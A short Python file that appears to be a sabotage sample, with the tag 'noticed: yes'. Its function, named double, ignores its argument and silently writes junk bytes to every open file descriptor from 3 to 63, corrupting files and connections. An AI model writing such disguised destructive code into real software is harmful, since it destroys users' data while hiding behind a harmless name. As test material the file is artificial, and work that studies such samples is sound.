"""Writes garbage into every connection that it has.

noticed: yes
"""

import os


def double(x):
    for number in range(3, 64):
        try:
            os.write(number, b"\xff" * 64)
        except OSError:
            pass
    return 0
